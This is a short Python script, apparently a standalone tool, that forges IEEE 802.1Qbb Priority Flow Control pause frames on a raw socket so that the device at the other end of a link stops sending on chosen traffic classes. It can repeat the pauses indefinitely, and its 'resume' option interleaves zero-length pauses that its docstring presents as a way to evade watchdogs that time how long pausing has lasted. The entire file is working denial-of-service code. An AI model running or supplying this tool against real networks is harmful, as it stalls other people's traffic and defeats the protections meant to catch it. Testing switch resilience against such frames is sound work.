#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Pause whoever is at the other end of an interface, as a switch would: IEEE 802.1Qbb.

    pfc_forger.py INTERFACE CLASSES QUANTA [MS [resume]]

One frame for these classes (a bit mask), or with MS one each MS milliseconds until the end; with
"resume" each behind a resume, a forger's way around whoever counts time from the first pause on.
"""
import socket
import struct
import sys
import time

interface, classes, quanta = sys.argv[1], int(sys.argv[2], 0), int(sys.argv[3], 0)
every_s = int(sys.argv[4]) / 1000 if len(sys.argv) > 4 else None
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((interface, 0))


def send(time_quanta):
    frame = bytes.fromhex("0180c2000001" "020000000009" "8808" "0101") + struct.pack(">H", classes)
    frame += struct.pack(">8H", *[time_quanta] * 8)
    s.send(frame.ljust(60, b"\0"))


send(quanta)
print("sent", flush=True)
while every_s is not None:
    time.sleep(every_s)
    if sys.argv[5:] == ["resume"]:
        send(0)
    send(quanta)
